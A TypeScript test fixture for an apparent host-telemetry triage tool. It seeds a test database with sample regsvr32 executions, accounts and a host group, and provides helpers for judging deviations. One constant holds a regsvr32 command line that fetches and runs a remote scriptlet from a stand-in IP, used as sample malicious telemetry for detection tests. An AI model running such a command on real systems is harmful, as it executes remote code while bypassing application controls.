import { beforeAll } from 'vitest'
import type { Actor } from '@/lib/pipeline/actor'
import type { AccountActor } from '@/lib/store/accounts'
import { pool } from '@/lib/store/pool'
import { withTestDatabase } from '@/lib/store/test-database'
import { examplePerson } from './example-person'
import { ingestExamples } from './ingest/example-use'
import { recompute } from './recompute/recompute'
import { type Triage, triageDeviation } from './triage-deviation'

const SCRIPTLET = 'regsvr32 /s /u /i:http://203.0.113.9/a.sct scrobj.dll'
const DRIVER = 'regsvr32 /s C:\\Users\\Public\\driver.dll'
const PLAIN = 'regsvr32 /s C:\\Windows\\System32\\plain.dll'

const use = (host: string, day: number, commandLine: string) => ({
  host,
  at: `2026-01-${String(day).padStart(2, '0')}T10:00:00Z`,
  image: 'C:\\Windows\\System32\\regsvr32.exe',
  commandLine,
})

export type TriageExamples = {
  responder: AccountActor
  viewer: AccountActor
  /** Of ws-1 and ws-2. */
  groupId: number
  /** A responder who sees that group only. */
  groupResponder: AccountActor
}

/**
 * For the tests of a file: three hosts in a database of their own. All register a driver from the Public folder (four days on ws-1 and ws-2, one on ws-3),
 * ws-1 also a scriptlet from the web on one day, and something ordinary every day. Answers who judges them, to whoever asks once tests run.
 */
export function withTriageExamples(): () => TriageExamples {
  let examples: TriageExamples
  withTestDatabase()
  beforeAll(async () => {
    examples = await createTriageExamples()
  })
  return () => examples
}

async function createTriageExamples(): Promise<TriageExamples> {
  await ingestExamples(pool(), [
    ...[5, 6, 7, 8].flatMap((day) => [
      use('ws-1.example', day, DRIVER),
      use('ws-2.example', day, DRIVER),
      use('ws-1.example', day, PLAIN),
    ]),
    use('ws-3.example', 8, DRIVER),
    use('ws-1.example', 7, SCRIPTLET),
  ])
  const group = await pool().query<{ id: number }>(
    `INSERT INTO host_group (name) VALUES ('Workstations') RETURNING id`,
  )
  const groupId = group.rows[0]?.id ?? 0
  await pool().query(
    `INSERT INTO host_group_member (host_id, group_id, valid_from)
     SELECT id, $1, '2026-01-01' FROM host WHERE name IN ('ws-1.example', 'ws-2.example')`,
    [groupId],
  )
  await recompute(pool())
  return {
    responder: await examplePerson('ada', 'responder'),
    viewer: await examplePerson('vic', 'viewer'),
    groupId,
    groupResponder: await examplePerson('gus', 'responder', { kind: 'groups', groupIds: [groupId] }),
  }
}

/** Everything untriaged, and derived anew. */
export async function forgetTriage(): Promise<void> {
  await pool().query('DELETE FROM ruling')
  await pool().query(`UPDATE deviation SET state = 'open', assignee_id = NULL, note = NULL`)
  await pool().query(`UPDATE host_work SET dirty_from = '2026-01-05', revision = revision + 1`)
  await recompute(pool())
}

/** The one deviation with these words in its title. */
export async function itemOf(words: string): Promise<{ id: string; version: number; state: string }> {
  const { rows } = await pool().query<{ id: string; version: number; state: string }>(
    'SELECT id, version, state FROM deviation WHERE title LIKE $1',
    [`%${words}%`],
  )
  const item = rows[0]
  if (!item || rows.length > 1) throw new Error(`${rows.length} deviations of ${words}`)
  return item
}

export type Judgement = {
  to: Triage['to']
  scope?: 'fleet' | 'groups' | 'hosts'
  until?: string | null
  note?: string
}

/** Judges the deviation with these words in its title, and waits for the scores. */
export async function judge(
  actor: Actor,
  words: string,
  { to, scope = 'fleet', until = null, ...rest }: Judgement,
) {
  const { id, version } = await itemOf(words)
  const ruled = to === 'open' || to === 'flagged' ? { to } : { to, scope, until }
  const plan = await triageDeviation(actor, { id, version, ...ruled, ...rest })
  await recompute(pool())
  return plan
}

/** Every derived row. */
export async function derived(): Promise<unknown> {
  const tables = ['usage', 'host_value', 'prevalence', 'deviation_hit', 'coverage']
  return await Promise.all(
    tables.map(
      async (table) => (await pool().query(`SELECT to_jsonb(t) AS row FROM ${table} t ORDER BY 1`)).rows,
    ),
  )
}
